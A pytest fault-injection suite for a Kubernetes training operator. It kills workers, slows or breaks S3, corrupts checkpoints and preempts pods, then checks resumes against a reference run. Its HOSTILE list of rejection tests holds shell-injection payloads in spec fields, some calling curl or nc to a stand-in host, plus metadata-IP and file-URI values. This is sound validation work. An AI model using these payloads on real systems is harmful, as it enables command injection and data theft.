"""Fault injection over the whole stack: kopf operator + API server + pod executor + torchrun trainer + S3.

One dev cluster for the module. First an uninterrupted reference job; then each scenario runs the
same job (same data, seed and steps, deterministic mode) under one injected fault and checks:
- the job's final state (phase, restarts, preemptions, failures, attempt);
- the checkpoint history in S3 (every resume point is a complete checkpoint, the final one lands,
  every manifest's files are all there);
- the step sequence, from rank 0's log of every attempt: each attempt trains consecutive steps from
  where it resumed, no step is skipped between attempts, and the steps trained again after a resume
  (the steps lost) are counted;
- the data order: every step, in every attempt, retrained ones included, trains the same samples
  (the log's data fingerprint) with the same loss as the reference, and the final weights are
  bitwise equal to the reference's.

The module writes RELIABILITY.md (scenario, injected fault, outcome, steps lost, data lost) from
what the scenarios measured, once all of them have run.
"""

from __future__ import annotations

import datetime
import io
import json
import os
import platform
import re
import signal
import time
from dataclasses import dataclass, field
from pathlib import Path

import pytest
import torch
from kubernetes.client.exceptions import ApiException

from kubetrain.contracts import CheckpointReason
from kubetrain_devcluster.cluster import BUCKET, DevCluster
from kubetrain_testkit import REPO
from kubetrain_testkit.clusterkit import (NS, assert_operator_calls_granted, create, events, kubectl, newest_step,
                                          get_job, operator_metrics, patch_spec, pod_logs, pods, rank0_logs, rank0_pod, s3_manifests,
                                          status, tiny_job, wait_events, wait_for, wait_phase)
from kubetrain_testkit.prometheus import scrape

pytestmark = [pytest.mark.slow, pytest.mark.cluster, pytest.mark.faults]

STEPS = 80  # every scenario's job, and the reference
EVERY = 10  # checkpoint.everySteps
S3_OUTAGE_SECONDS = 60
# An emergency checkpoint's reason: "periodic" when the signal came at a save step (that save is the emergency one).
EMERGENCY_REASONS = (CheckpointReason.PREEMPTION, CheckpointReason.PERIODIC)
TABLE = REPO / "RELIABILITY.md"


# ---------------------------------------------------------------- cluster, jobs, the reference

def job(cluster: DevCluster, corpus: dict, name: str, steps: int = STEPS, **overrides) -> dict:
    settings = {"training__maxSteps": steps, "training__deterministic": True, "training__logEverySteps": 1,
                "training__evalEverySteps": 10**6, "checkpoint__everySteps": EVERY, "checkpoint__keep": 100,
                "runPolicy": {"backoffLimit": 3}}
    return tiny_job(cluster, corpus, name, **{**settings, **overrides})


def prefix(name: str) -> str:
    return f"e2e/{NS}/{name}/"


@dataclass
class StepRecord:
    loss: str
    data: str


@dataclass
class Attempt:
    """What rank 0 of one pod group logged: where it resumed, and each step it trained."""

    resumed: int
    steps: dict[int, StepRecord]
    text: str
    rescued: int = 0  # the step of a rescue checkpoint: trained, though a peer died before it was logged

    @property
    def last(self) -> int:
        return max(max(self.steps, default=self.resumed), self.rescued)


STEP_LINE = re.compile(r"step (\d+)/\d+ .*\| loss (\S+) .*\| data ([0-9a-f]{8})")


def attempts(cluster: DevCluster, name: str) -> list[Attempt]:
    """Rank 0's log of every attempt, oldest first (one log file per pod uid)."""
    found = []
    for text in rank0_logs(cluster, name).values():
        resumed = re.search(r"resumed from \S+ at step (\d+)", text)
        steps = {int(m.group(1)): StepRecord(m.group(2), m.group(3)) for m in STEP_LINE.finditer(text)}
        rescued = re.search(r"rescue checkpoint of step (\d+) complete", text)
        found.append(Attempt(int(resumed.group(1)) if resumed else 0, steps, text, int(rescued.group(1)) if rescued else 0))
    return found


def final_weights(cluster: DevCluster, name: str, step: int) -> dict[str, torch.Tensor]:
    body = cluster.s3.client().get_object(Bucket=BUCKET, Key=f"{prefix(name)}step-{step:09d}/model.pt")["Body"].read()
    return torch.load(io.BytesIO(body), weights_only=True)


@dataclass
class Reference:
    steps: dict[int, StepRecord]
    weights: dict[str, torch.Tensor]


@pytest.fixture(scope="module")
def reference(cluster, corpus) -> Reference:
    started = time.monotonic()
    create(cluster, job(cluster, corpus, "reference"))
    final = wait_phase(cluster, "reference", {"Succeeded", "Failed"}, 480)
    assert final["phase"] == "Succeeded", final
    (only,) = attempts(cluster, "reference")
    assert sorted(only.steps) == list(range(1, STEPS + 1)), "the reference trains every step once"
    record("reference", "none: the uninterrupted run every scenario is compared with",
           f"Succeeded in {time.monotonic() - started:.0f} s, 1 attempt", 0, "-", time.monotonic() - started)
    return Reference(only.steps, final_weights(cluster, "reference", STEPS))


# ---------------------------------------------------------------- the verdict on one run

@dataclass
class Verdict:
    attempts: list[Attempt]
    steps_lost: int
    retrained: list[int] = field(default_factory=list)
    compared_steps: int = 0

    @property
    def data_lost(self) -> str:
        return (f"none: all {self.compared_steps} step(s) trained (retrained ones included) used the reference's "
                "samples in its order with its loss; final weights bitwise equal")


def check_run(cluster: DevCluster, name: str, ref: Reference, steps: int | None = STEPS, weights: bool = True,
              losses: bool = True) -> Verdict:
    """Step sequence, data order, checkpoint history and final weights of a finished run (steps=None: one
    stopped early, whose last step must be its newest checkpoint)."""
    runs = [a for a in attempts(cluster, name) if a.steps or a.resumed]
    assert runs and runs[0].resumed == 0, "the first attempt starts from scratch"
    manifests = s3_manifests(cluster, prefix(name))
    lost, retrained, compared = 0, [], 0
    for i, run in enumerate(runs):
        trained = sorted(run.steps)
        logged = max(run.steps, default=run.resumed)
        assert trained == list(range(run.resumed + 1, logged + 1)), f"attempt {i + 1}: steps not consecutive from its resume"
        assert run.last - logged <= 1, f"attempt {i + 1}: rescued step {run.rescued} is past the next step after {logged}"
        if i:
            previous = runs[i - 1]
            assert run.resumed <= previous.last, f"attempt {i + 1} resumed at {run.resumed}, past step {previous.last}: steps skipped"
            assert run.resumed == 0 or run.resumed in manifests, (  # 0: from scratch, when every checkpoint is gone
                f"attempt {i + 1} resumed at {run.resumed}, which is not a complete checkpoint")
            lost += previous.last - run.resumed
            retrained += list(range(run.resumed + 1, previous.last + 1))
        for step, rec in run.steps.items():
            if step in ref.steps:
                expected = ref.steps[step] if losses else StepRecord(rec.loss, ref.steps[step].data)
                assert rec == expected, f"attempt {i + 1}, step {step}: {rec} but the reference had {ref.steps[step]}"
                compared += 1
    if steps is None:
        assert runs[-1].last == max(manifests), "the run stopped at its newest checkpoint"
    else:
        assert runs[-1].last == steps, f"the last attempt ends at step {runs[-1].last}, not {steps}"
        assert manifests[steps]["meta"]["reason"] == "final"
    sizes = {o["Key"]: o["Size"] for page in cluster.s3.client().get_paginator("list_objects_v2").paginate(
        Bucket=BUCKET, Prefix=prefix(name)) for o in page.get("Contents", [])}
    for step, manifest in manifests.items():
        for file, meta in manifest["files"].items():
            assert sizes.get(f"{prefix(name)}step-{step:09d}/{file}") == meta["size"], f"step {step}: {file} incomplete"
    if weights:
        got = final_weights(cluster, name, steps)
        different = [k for k in ref.weights if not torch.equal(ref.weights[k], got[k])]
        assert got.keys() == ref.weights.keys() and not different, f"final weights differ: {different[:5]}"
    return Verdict(runs, lost, retrained, compared)


def outcome(s: dict) -> str:
    return (f"{s['phase']}; attempt {s['attempt']}, restarts {s['restarts']} (preemptions {s['preemptions']}, "
            f"failures {s['failures']})")


# ---------------------------------------------------------------- RELIABILITY.md, written by the suite

SCENARIOS = ["reference", "hostile-jobs", "bad-data", "divergence", "worker-sigkill", "sigterm-upload", "s3-outage",
             "corrupt-newest", "lost-checkpoints", "spec-edit", "recreate-same-name", "operator-killed", "api-errors",
             "three-preemptions", "group-deleted", "fsdp-preempted", "node-lost"]
ROWS: dict[str, dict] = {}


def record(scenario: str, fault: str, result: str, steps_lost: int | str, data_lost: str, seconds: float) -> None:
    assert scenario in SCENARIOS, f"{scenario}: not a row of the table"
    ROWS[scenario] = {"fault": fault, "outcome": result, "steps_lost": steps_lost, "data_lost": data_lost,
                      "seconds": seconds}


@pytest.fixture(scope="module", autouse=True)
def reliability_table():
    yield
    if set(ROWS) != set(SCENARIOS):  # a partial run (-k, a failure) leaves the committed table alone
        return
    lines = [
        "# Reliability: fault injection", "",
        "Generated by `tests/faults/test_faults.py` (pytest marker `faults`) at the end of a run in which every scenario "
        "passed; do not edit by hand.",
        f"Run: {datetime.date.today().isoformat()}, {platform.machine()} with {os.cpu_count()} CPUs, "
        f"Python {platform.python_version()}, torch {torch.__version__}.", "",
        f"Every scenario runs the same 2-node tiny-BERT TrainingJob ({STEPS} steps, a checkpoint every {EVERY} steps, "
        "deterministic mode) through the real stack: the kopf operator against the dev cluster's API server, pods "
        "as real torchrun processes (gloo), checkpoints in moto S3 behind a fault proxy. Each row's assertions: the "
        "final state; every resume point a complete checkpoint and every manifest's files present; each attempt's "
        "steps consecutive from its resume point and none skipped between attempts; every step trained (retrained "
        "ones included) with the reference's data fingerprint and loss; final weights bitwise equal to the "
        "reference's (fsdp-preempted runs the job with training.strategy fsdp: its data order is checked the same "
        "way, its losses within 2e-3, as FSDP reduces in another order). *Steps lost* are steps trained again after "
        "a resume (work since the last complete checkpoint).", "",
        "| scenario | injected fault | outcome | steps lost | data lost | time |",
        "| --- | --- | --- | --- | --- | --- |",
    ]
    for name in SCENARIOS:
        r = ROWS[name]
        lines.append(f"| {name} | {r['fault']} | {r['outcome']} | {r['steps_lost']} | {r['data_lost']} | "
                     f"{r['seconds']:.0f} s |")
    TABLE.write_text("\n".join(lines) + "\n")


# ---------------------------------------------------------------- fault helpers

def worker_pids(cluster: DevCluster, pod_name: str) -> list[int]:
    """The torchrun worker processes of a pod: children of the launcher (the pod's PID 1 here)."""
    pod = cluster.core_api().read_namespaced_pod(pod_name, NS)
    launcher = int(pod.status.container_statuses[0].container_id.removeprefix("local://"))
    children = Path(f"/proc/{launcher}/task/{launcher}/children").read_text().split()
    return [int(pid) for pid in children]


def metrics_of_rank0(cluster: DevCluster, name: str) -> dict[str, float]:
    """Rank 0's /metrics, scraped like the operator does (pod IP, port 9400); empty while it does not answer."""
    try:
        pod = cluster.core_api().read_namespaced_pod(rank0_pod(cluster, name), NS)
        return scrape(f"http://{pod.status.pod_ip}:9400/metrics")
    except (OSError, ApiException, StopIteration):
        return {}


def wait_step(cluster: DevCluster, name: str, at_least: int, attempt: int | None = None, timeout: float = 180) -> int:
    def probe():
        runs = attempts(cluster, name)
        if attempt is not None and len(runs) < attempt:
            return 0
        last = runs[-1].last if runs else 0
        return last if last >= at_least else 0
    return wait_for(f"{name} at step {at_least}" + (f" in attempt {attempt}" if attempt else ""), probe, timeout, cluster)


def suspended(cluster: DevCluster, name: str, timeout: float = 120) -> dict:
    """Suspended with no pod left (reason JobSuspended, not Suspending): the emergency checkpoint is saved."""
    def probe():
        s = status(cluster, name)
        return s.get("phase") == "Suspended" and any(
            c["type"] == "Suspended" and c["reason"] == "JobSuspended" for c in s.get("conditions", [])) and s
    return wait_for(f"{name} suspended, no pod left", probe, timeout, cluster)


def succeeded(cluster: DevCluster, name: str, timeout: float = 300) -> dict:
    final = wait_phase(cluster, name, {"Succeeded", "Failed"}, timeout)
    assert final["phase"] == "Succeeded", final
    return final


# ---------------------------------------------------------------- scenarios

def test_reference_run(reference):
    assert len(reference.steps) == STEPS


HOSTILE = [
    # (case, change to spec, or "metadata.name" -> name, the field the message must name)
    ("nodes-string", {"nodes": "two"}, "spec.nodes"),
    ("nodes-bool", {"nodes": True}, "spec.nodes"),
    ("nodes-zero", {"nodes": 0}, "spec.nodes"),
    ("nodes-huge", {"nodes": 10**9}, "spec.nodes"),
    ("nodes-negative", {"nodes": -1}, "spec.nodes"),
    ("procs-float", {"procsPerNode": 1.5}, "spec.procsPerNode"),
    ("procs-huge", {"procsPerNode": 10**6}, "spec.procsPerNode"),
    ("image-int", {"image": 123}, "spec.image"),
    ("image-missing", {"image": None}, "spec.image"),
    ("image-injection", {"image": "busybox; rm -rf /"}, "spec.image"),
    ("image-subshell", {"image": "$(curl evil.example/x.sh)"}, "spec.image"),
    ("image-newline", {"image": "trainer:1\nsecurityContext: {privileged: true}"}, "spec.image"),
    ("task-unknown", {"model": {"name": "x", "task": "translation"}}, "spec.model.task"),
    ("model-missing", {"model": None}, "spec.model"),
    ("model-name-backticks", {"model": {"name": "bert`id`", "task": "sequence-classification"}}, "spec.model.name"),
    ("model-name-huge", {"model": {"name": "a" * 100_000, "task": "sequence-classification"}}, "spec.model.name"),
    ("tokenizer-and", {"model": {"config": {"model_type": "bert"}, "tokenizer": "t && curl x",
                                 "task": "sequence-classification"}}, "spec.model.tokenizer"),
    ("config-remote-code", {"model": {"config": {"model_type": "bert", "trust_remote_code": True}, "tokenizer": "t",
                                      "task": "sequence-classification"}}, "spec.model.config"),
    ("config-token", {"model": {"name": "x", "config": {"token": "hf_stolen"}, "task": "sequence-classification"}},
     "spec.model.config"),
    ("config-nested", {"model": {"name": "x", "config": {"rope_scaling": {"a": {"b": {"c": 1}}}},
                                 "task": "sequence-classification"}}, "spec.model.config.rope_scaling"),
    ("train-dotdot", {"data": {"train": "s3://kubetrain/a/../../other/train.jsonl"}}, "spec.data.train"),
    ("textfield-bidi", {"data": {"train": "x.jsonl", "textField": "text\u202e"}}, "spec.data.textField"),
    ("endpoint-metadata", {"checkpoint": {"uri": "s3://b/c", "endpoint": "http://169.254.169.254"}},
     "spec.checkpoint.endpoint"),
    ("endpoint-userinfo", {"checkpoint": {"uri": "s3://b/c", "endpoint": "http://key:secret@s3.local"}},
     "spec.checkpoint.endpoint"),
    ("data-missing", {"data": None}, "spec.data"),
    ("train-injection", {"data": {"train": "x.jsonl; rm -rf /"}}, "spec.data.train"),
    ("train-pipe", {"data": {"train": "x.jsonl | nc evil.example 1"}}, "spec.data.train"),
    ("eval-backticks", {"data": {"train": "x.jsonl", "eval": "`reboot`"}}, "spec.data.eval"),
    ("textfield-dollar", {"data": {"train": "x.jsonl", "textField": "${HOME}"}}, "spec.data.textField"),
    ("maxlen-negative", {"data": {"train": "x.jsonl", "maxLength": -1}}, "spec.data.maxLength"),
    ("maxlen-huge", {"data": {"train": "x.jsonl", "maxLength": 10**12}}, "spec.data.maxLength"),
    ("budget-huge", {"data": {"train": "x.jsonl", "maxTokensPerBatch": 10**15}}, "spec.data.maxTokensPerBatch"),
    ("lr-string", {"training": {"learningRate": "fast"}}, "spec.training.learningRate"),
    ("lr-nan", {"training": {"learningRate": "nan"}}, "spec.training.learningRate"),
    ("lr-inf", {"training": {"learningRate": "inf"}}, "spec.training.learningRate"),
    ("lr-negative", {"training": {"learningRate": -1}}, "spec.training.learningRate"),
    ("epochs-huge", {"training": {"epochs": 1e300}}, "spec.training.epochs"),
    ("maxsteps-huge", {"training": {"maxSteps": 10**30}}, "spec.training.maxSteps"),
    ("seed-negative", {"training": {"seed": -5}}, "spec.training.seed"),
    ("accum-zero", {"training": {"gradientAccumulation": 0}}, "spec.training.gradientAccumulation"),
    ("precision-fp8", {"training": {"precision": "fp8"}}, "spec.training.precision"),
    ("keep-zero", {"checkpoint": {"uri": "s3://b/p", "keep": 0}}, "spec.checkpoint.keep"),
    ("every-huge", {"checkpoint": {"uri": "s3://b/p", "everySteps": 10**12}}, "spec.checkpoint.everySteps"),
    ("ckpt-injection", {"checkpoint": {"uri": "s3://b/p; rm -rf /"}}, "spec.checkpoint.uri"),
    ("secret-injection", {"checkpoint": {"uri": "s3://b/p", "s3Secret": "x; rm -rf /"}}, "spec.checkpoint.s3Secret"),
    ("endpoint-js", {"checkpoint": {"uri": "s3://b/p", "endpoint": "javascript:alert(1)"}}, "spec.checkpoint.endpoint"),
    ("endpoint-injection", {"checkpoint": {"uri": "s3://b/p", "endpoint": "http://x;curl evil"}},
     "spec.checkpoint.endpoint"),
    ("region-injection", {"checkpoint": {"uri": "s3://b/p", "region": "us-east-1; id"}}, "spec.checkpoint.region"),
    ("output-traversal", {"output": {"uri": "s3://b/models/../../etc"}}, "spec.output.uri"),
    ("output-injection", {"output": {"uri": "s3://b/m; rm -rf /"}}, "spec.output.uri"),
    ("output-format", {"output": {"uri": "s3://b/m", "formats": ["pickle"]}}, "spec.output.formats"),
    ("mlflow-credentials", {"tracking": {"mlflow": {"trackingUri": "http://user:pw@mlflow:5000"}}},
     "spec.tracking.mlflow.trackingUri"),
    ("mlflow-file", {"tracking": {"mlflow": {"trackingUri": "file:///etc/passwd"}}}, "spec.tracking.mlflow.trackingUri"),
    ("backoff-negative", {"runPolicy": {"backoffLimit": -1}}, "spec.runPolicy.backoffLimit"),
    ("backoff-huge", {"runPolicy": {"backoffLimit": 10**9}}, "spec.runPolicy.backoffLimit"),
    ("cleanpod-bad", {"runPolicy": {"cleanPodPolicy": "Sometimes"}}, "spec.runPolicy.cleanPodPolicy"),
    ("deadline-zero", {"runPolicy": {"activeDeadlineSeconds": 0}}, "spec.runPolicy.activeDeadlineSeconds"),
    ("port-privileged", {"metrics": {"port": 80}}, "spec.metrics.port"),
    ("unknown-field", {"gpus": 8}, "spec.gpus"),
    ("priority-injection", {"priorityClassName": "high; rm -rf /"}, "spec.priorityClassName"),
    ("tolerations-string", {"tolerations": "all"}, "spec.tolerations"),
    ("selector-int", {"nodeSelector": {"pool": 1}}, "spec.nodeSelector"),
    ("spec-string", "hello", "spec"),
    ("9lives", {}, "metadata.name"),
    ("x" * 62, {}, "metadata.name"),  # a valid object name, but pod x...x-1 is no hostname
]


def test_hostile_jobs_are_each_refused_or_failed_naming_the_field_with_no_pod_and_the_operator_keeps_running(cluster, corpus):
    started = time.monotonic()
    assert len(HOSTILE) >= 50
    names, refused = {}, {}
    for case, change, _ in HOSTILE:
        name = case if case[0].isdigit() or len(case) > 40 else f"h-{case}"
        names[case] = name
        doc = job(cluster, corpus, name)
        if isinstance(change, dict):
            for key, value in change.items():
                if value is None:
                    del doc["spec"][key]
                else:
                    doc["spec"][key] = value
        else:
            doc["spec"] = change
        try:  # as kubectl apply sends it: an unknown field is refused, not pruned
            cluster.custom_api().create_namespaced_custom_object("kubetrain.io", "v1alpha1", NS, "trainingjobs", doc,
                                                                 field_validation="Strict")
        except ApiException as err:  # refused by the API server (the CRD's schema): as good, if it names the field
            assert err.status in (400, 422), (name, err.status, err.body)
            refused[case] = err.body
    for case, _, field_name in HOSTILE:
        name = names[case]
        if case in refused:
            message = json.loads(refused[case])["message"]
            assert field_name in message and (name in message or "unknown field" in message), (case, message[:500])
            continue
        s = wait_phase(cluster, name, {"Failed", "Running", "Pending", "Succeeded"}, timeout=60)
        assert s["phase"] == "Failed", (name, s)
        assert field_name in s["message"], (name, field_name, s["message"][:500])
        assert not pods(cluster, name), f"{name}: no pod for an invalid job"
        wait_events(cluster, name, lambda found: ("Warning", "InvalidSpec") in [(t, r) for t, r, _ in found])
    assert cluster.operator.running
    for case, name in names.items():  # Failed jobs stay until deleted; the later scenarios need no extra load
        if case not in refused:
            cluster.custom_api().delete_namespaced_custom_object("kubetrain.io", "v1alpha1", NS, "trainingjobs", name)
    record("hostile-jobs", f"{len(HOSTILE)} malformed or hostile TrainingJobs: wrong types, huge numbers, NaN/Infinity, "
           "shell injection in image/paths/secret/endpoint, a name that cannot be a hostname, loader options "
           "(trust_remote_code, token) and nested values in model.config, '..' in remote URIs, bidi "
           "characters, credentials or a link-local host in the S3 endpoint, traversal, injection and unknown formats in "
           "spec.output, credentials or a file URI as the MLflow tracking server",
           f"each refused naming its field: {len(refused)} by the API server at create (the CRD's schema: 422, or 400 "
           f"for an unknown field), {len(HOSTILE) - len(refused)} Failed (InvalidSpec) by the operator; 0 pods created; "
           "the operator kept running", 0, "-",
           time.monotonic() - started)


def test_worker_sigkilled_mid_step(cluster, corpus, reference):
    name, started = "worker-sigkill", time.monotonic()
    create(cluster, job(cluster, corpus, name))
    wait_step(cluster, name, EVERY + 5)
    victim = next(p.metadata.name for p in pods(cluster, name) if p.metadata.name != rank0_pod(cluster, name))
    (worker,) = worker_pids(cluster, victim)
    os.kill(worker, signal.SIGKILL)  # no grace: the process just vanishes mid-step
    final = succeeded(cluster, name)
    assert (final["failures"], final["preemptions"], final["restarts"], final["attempt"]) == (1, 0, 1, 2), final
    v = check_run(cluster, name, reference)
    assert "rescue checkpoint of step" in v.attempts[0].text and v.steps_lost == 0, v.attempts[0].text[-2000:]
    record(name, "SIGKILL of rank 1's torchrun worker mid-step (no grace, no emergency checkpoint)",
           f"{outcome(final)}; rank 0 saved a rescue checkpoint of its last finished step", v.steps_lost, v.data_lost,
           time.monotonic() - started)


def test_sigterm_during_a_checkpoint_upload(cluster, corpus, reference):
    name, started = "sigterm-upload", time.monotonic()
    cluster.s3_proxy.arm({"delaySeconds": 1.5, "methods": ["PUT"], "pathRegex": f"/{prefix(name)}"})  # slow uploads: 1.5 s a request
    create(cluster, job(cluster, corpus, name))
    wait_step(cluster, name, EVERY + 2)
    wait_for("a checkpoint upload in flight", lambda: cluster.s3_proxy.report()["inFlight"].get("PUT"), 60, cluster)
    kubectl(cluster, "delete", "pod", rank0_pod(cluster, name), "--wait=false")  # rank 0 is the one uploading
    wait_phase(cluster, name, {"Restarting"}, 60)
    cluster.s3_proxy.clear()
    final = succeeded(cluster, name)
    assert (final["preemptions"], final["failures"], final["attempt"]) == (1, 0, 2), final
    v = check_run(cluster, name, reference)
    first = v.attempts[0]
    manifests = s3_manifests(cluster, prefix(name))
    assert manifests[first.last]["meta"]["reason"] in EMERGENCY_REASONS, "the emergency checkpoint landed"
    assert v.steps_lost == 0 and v.attempts[1].resumed == first.last
    record(name, "SIGTERM to rank 0's pod while it uploads a checkpoint (S3 PUTs slowed to 1.5 s each)",
           outcome(final), v.steps_lost, v.data_lost, time.monotonic() - started)


def test_s3_refusing_requests_for_a_minute(cluster, corpus, reference):
    """Training goes on while S3 answers 503; checkpoints retry with backoff and land after; the alert metric rises.

    The job has more steps than it can train in the test; once a checkpoint has landed after the outage the
    test suspends it (a graceful stop with an emergency checkpoint), so it needs no guess of this machine's speed.
    """
    name, started = "s3-outage", time.monotonic()
    create(cluster, job(cluster, corpus, name, steps=10**7))
    wait_step(cluster, name, 5)
    cluster.s3_proxy.arm({"status": 503, "seconds": S3_OUTAGE_SECONDS, "pathRegex": f"/{prefix(name)}"})
    outage_start, step_at_start = time.monotonic(), newest_step(cluster, name)
    retries = wait_for("kubetrain_checkpoint_retries_total > 0 on rank 0's /metrics", lambda: metrics_of_rank0(
        cluster, name).get("kubetrain_checkpoint_retries_total"), S3_OUTAGE_SECONDS, cluster)
    time.sleep(max(0.0, S3_OUTAGE_SECONDS - (time.monotonic() - outage_start)))
    step_at_end = newest_step(cluster, name)
    refused = cluster.s3_proxy.report()["refused"]
    trained_during = step_at_end - step_at_start
    assert trained_during >= 3 * EVERY, f"training went on during the outage: {trained_during} steps"
    landed_after = wait_for("a checkpoint past the outage", lambda: [s for s in s3_manifests(cluster, prefix(name))
                                                                   if s > step_at_end], 120, cluster)
    superseded = metrics_of_rank0(cluster, name).get("kubetrain_checkpoints_superseded_total", 0.0)
    patch_spec(cluster, name, {"runPolicy": {"suspend": True}})
    final = suspended(cluster, name)
    assert (final["restarts"], final["failures"], final["preemptions"]) == (0, 0, 0), final
    v = check_run(cluster, name, reference, steps=None, weights=False, losses=False)  # another LR schedule
    assert final["step"] == final["lastCheckpoint"]["step"] == v.attempts[-1].last, "status: where a resume starts"
    log = v.attempts[0].text
    assert "retrying" in log and "checkpoint failed" not in log
    record(name, f"S3 answers every request of the job with 503 SlowDown for {S3_OUTAGE_SECONDS} s "
           f"({refused} requests refused)",
           f"trained on: {trained_during} steps during the outage, 0 restarts; rank 0's "
           f"kubetrain_checkpoint_retries_total reached {retries:.0f} (alert KubetrainCheckpointStorageErrors); "
           f"{superseded:.0f} waiting snapshots replaced by newer ones; first checkpoint after the outage: step "
           f"{min(landed_after)}; then suspended by the test: {final['phase']} at step {v.attempts[-1].last}, "
           "its emergency checkpoint complete", v.steps_lost,
           f"none: {v.attempts[-1].last} steps trained once each; the {v.compared_steps} the reference has trained "
           "the same samples (losses differ: a longer LR schedule)",
           time.monotonic() - started)


def test_a_corrupted_newest_checkpoint_falls_back_to_the_previous_complete_one(cluster, corpus, reference):
    name, started = "corrupt-newest", time.monotonic()
    create(cluster, job(cluster, corpus, name))
    wait_step(cluster, name, EVERY + 5)
    wait_for("a periodic checkpoint", lambda: s3_manifests(cluster, prefix(name)), 60, cluster)
    patch_spec(cluster, name, {"runPolicy": {"suspend": True}})  # pods stop gracefully: an emergency checkpoint
    suspended(cluster, name)
    manifests = s3_manifests(cluster, prefix(name))
    newest = max(manifests)
    assert manifests[newest]["meta"]["reason"] in EMERGENCY_REASONS, "the suspend's emergency checkpoint"
    key = f"{prefix(name)}step-{newest:09d}/model.pt"
    client = cluster.s3.client()
    body = bytearray(client.get_object(Bucket=BUCKET, Key=key)["Body"].read())
    body[len(body) // 2: len(body) // 2 + 64] = bytes(64)  # same size, different bytes: only the hash can tell
    client.put_object(Bucket=BUCKET, Key=key, Body=bytes(body))
    patch_spec(cluster, name, {"runPolicy": {"suspend": False}})
    final = succeeded(cluster, name)
    v = check_run(cluster, name, reference)
    second = v.attempts[1]
    assert f"skipping corrupt checkpoint step {newest}" in second.text
    assert second.resumed == max(s for s in manifests if s < newest) and v.steps_lost == newest - second.resumed
    record(name, f"model.pt of the newest checkpoint (step {newest}) overwritten with flipped bytes, same size, "
           "while the job is suspended", f"{outcome(final)}; resumed from step {second.resumed}, the previous "
           "complete checkpoint (sha256 mismatch detected)", v.steps_lost, v.data_lost, time.monotonic() - started)


def test_the_operator_killed_mid_reconcile_and_restarted(cluster, corpus, reference):
    name, started = "operator-killed", time.monotonic()
    fault = cluster.api_faults("POST", {"status": 500, "methods": ["POST"], "pathRegex": f"/namespaces/{NS}/pods$",
                                         "seconds": 120})
    create(cluster, job(cluster, corpus, name))
    wait_for("the operator retrying a pod create", lambda: any(
        f["hits"] >= 2 for f in cluster.api_faults()["faults"]), 60, cluster)
    assert fault["status"] == 500
    cluster.operator.kill()  # SIGKILL between creating the Service and the pods
    cluster.api_faults("DELETE")
    cluster.start_operator()
    wait_phase(cluster, name, {"Running"}, 120)
    before = {p.metadata.name: p.metadata.uid for p in pods(cluster, name)}
    final = succeeded(cluster, name)
    assert {p.metadata.name: p.metadata.uid for p in pods(cluster, name)} == before and len(before) == 2
    assert (final["attempt"], final["restarts"]) == (1, 0), final
    assert len(pod_logs(cluster, name)) == 2, "two pods ran, no duplicate"
    v = check_run(cluster, name, reference)
    record(name, "operator SIGKILLed mid-reconcile (Service created, pod creates failing with 500), then restarted",
           f"{outcome(final)}; the same 2 pods start to end", v.steps_lost, v.data_lost, time.monotonic() - started)


def test_the_api_answering_409_and_500_for_a_while(cluster, corpus, reference):
    name, started = "api-errors", time.monotonic()
    errors_before = operator_metrics(cluster)
    for fault in ({"status": 500, "methods": ["POST"], "pathRegex": f"/namespaces/{NS}/pods$", "seconds": 30},
                  {"status": 409, "methods": ["PATCH"], "pathRegex": f"/trainingjobs/{name}/status$", "seconds": 25}):
        cluster.api_faults("POST", fault)
    create(cluster, job(cluster, corpus, name))
    wait_for("the pods, once the creates get through", lambda: len(pods(cluster, name)) == 2, 60, cluster)
    cluster.api_faults("POST", {"status": 500, "methods": ["GET"], "pathRegex": f"/trainingjobs/{name}$", "seconds": 15})

    def finished():  # this test's own GETs of the job meet the injected 500s too
        try:
            s = status(cluster, name)
        except ApiException:
            return None
        return s.get("phase") in ("Succeeded", "Failed") and s

    final = wait_for(f"{name} finished", finished, 300, cluster)
    assert final["phase"] == "Succeeded", final
    armed = cluster.api_faults()
    hits = {f"{f['status']} {f['methods'][0]}": f["hits"] for f in armed["faults"] + armed["spent"]}
    cluster.api_faults("DELETE")
    assert all(hits.values()) and len(hits) == 3, hits
    assert (final["attempt"], final["restarts"], final["step"]) == (1, 0, STEPS), final
    assert len(pod_logs(cluster, name)) == 2 and cluster.operator.running
    errors_after = operator_metrics(cluster)
    for kind in ("conflict", "api"):
        series = f"kubetrain_operator_reconcile_errors_total{{kind={kind}}}"
        assert errors_after.get(series, 0.0) > errors_before.get(series, 0.0), kind
    v = check_run(cluster, name, reference)
    record(name, "API server answers 500 to pod creates (30 s), 409 to the job's status patches (25 s), then 500 "
           f"to its GETs (15 s); requests hit: {', '.join(f'{n}: {k}' for k, n in sorted(hits.items()))}",
           f"{outcome(final)}; 2 pods, none duplicated; reconcile errors counted", v.steps_lost, v.data_lost,
           time.monotonic() - started)


def test_three_preemptions_in_one_run(cluster, corpus, reference):
    name, started = "three-preemptions", time.monotonic()
    create(cluster, job(cluster, corpus, name))

    def evict(pod: str):
        cluster.core_api().create_namespaced_pod_eviction(pod, NS, {
            "apiVersion": "policy/v1", "kind": "Eviction", "metadata": {"name": pod, "namespace": NS}})

    preempt = [lambda: kubectl(cluster, "delete", "pod", f"{name}-1", "--wait=false"),
               lambda: evict(f"{name}-0"),
               lambda: kubectl(cluster, "delete", "pod", f"{name}-0", "--wait=false")]
    for attempt, hit in enumerate(preempt, start=1):
        at = wait_step(cluster, name, 5 + 20 * (attempt - 1), attempt=attempt)
        hit()
        wait_for(f"attempt {attempt + 1}", lambda: status(cluster, name).get("attempt", 0) > attempt, 120, cluster)
        assert at < STEPS
    final = succeeded(cluster, name)
    assert (final["preemptions"], final["restarts"], final["failures"], final["attempt"]) == (3, 3, 0, 4), final
    v = check_run(cluster, name, reference)
    assert v.steps_lost == 0
    assert all(s3_manifests(cluster, prefix(name))[a.resumed]["meta"]["reason"] in EMERGENCY_REASONS
               for a in v.attempts[1:]), "each resume point is the previous attempt's emergency checkpoint"
    record(name, "three preemptions: `kubectl delete pod` of rank 1, an eviction (Eviction API) of rank 0, "
           "`kubectl delete pod` of rank 0", outcome(final), v.steps_lost, v.data_lost, time.monotonic() - started)


def test_the_whole_group_deleted_at_once(cluster, corpus, reference):
    name, started = "group-deleted", time.monotonic()
    create(cluster, job(cluster, corpus, name))
    wait_step(cluster, name, 15)
    kubectl(cluster, "delete", "pods", "-l", f"kubetrain.io/job-name={name}", "--wait=false")
    final = succeeded(cluster, name)
    assert (final["failures"], final["attempt"]) == (0, 2) and final["preemptions"] >= 1, final
    v = check_run(cluster, name, reference)
    assert v.steps_lost == 0
